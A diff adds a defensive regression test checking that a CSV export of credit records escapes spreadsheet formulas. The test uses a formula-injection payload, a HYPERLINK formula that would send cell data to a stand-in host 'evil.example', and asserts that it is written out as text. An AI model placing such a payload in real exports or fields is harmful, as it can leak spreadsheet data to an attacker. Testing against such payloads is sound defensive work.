@@ -248,6 +248,17 @@ def test_credit_records_export_in_the_documented_csv_and_are_reported_only_after
     assert credit_records_csv(credit_records_for(campaign)).count(b"\r\n") == 2
 
 
+def test_a_credit_record_text_that_reads_as_a_formula_is_written_as_text(office, committee):
+    """Issue 10 defect 3 for the CSV export: a spreadsheet opening it must not run a formula from a reason."""
+    honor = _cancelled(office, committee)
+    payload = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
+    CreditRecord.objects.update(reason=payload)
+    content = credit_records_csv(credit_records_for(honor.application.campaign)).decode("utf-8-sig")
+    row = list(csv.reader(io.StringIO(content)))[1]
+    assert row[7] == "'" + payload
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
+
+
 def test_a_title_cancelled_for_fraud_blocks_re_application(office, committee):
     honor = _cancelled(office, committee)
     later = campaign_in(P.OPEN, year=2032)
